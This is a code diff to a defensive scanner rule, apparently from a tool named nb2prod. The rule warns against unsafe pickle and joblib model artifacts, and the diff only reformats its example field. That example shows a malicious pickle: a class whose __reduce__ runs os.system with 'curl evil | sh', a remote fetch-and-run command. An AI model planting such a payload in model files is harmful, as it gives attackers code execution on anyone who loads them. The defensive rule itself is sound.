@@ -16,7 +16,17 @@ export const unsafePickle: ArtifactRule = {
       'at `joblib.load`. nb2prod scans artifacts statically (never unpickling), including inline numpy arrays, ' +
       'compressed joblib files and nested pickles, and refuses anything outside sklearn, numpy and joblib array globals, ' +
       'or anything it cannot parse.',
-    example: ['# %%', 'import joblib, os', '', 'class Hook:', '    def __reduce__(self):', '        return (os.system, ("curl evil | sh",))', '', '# %%', 'joblib.dump({"weights": w, "hook": Hook()}, "model.joblib")'].join('\n'),
+    example: [
+      '# %%',
+      'import joblib, os',
+      '',
+      'class Hook:',
+      '    def __reduce__(self):',
+      '        return (os.system, ("curl evil | sh",))',
+      '',
+      '# %%',
+      'joblib.dump({"weights": w, "hook": Hook()}, "model.joblib")',
+    ].join('\n'),
     useInstead: ['# %%', 'import joblib', '', '# %%', 'joblib.dump(pipeline, "model.joblib")  # only sklearn/numpy objects'].join('\n'),
     fixSafety: 'No automatic fix: rebuild the artifact from trusted training code, or export the model to ONNX.',
   },
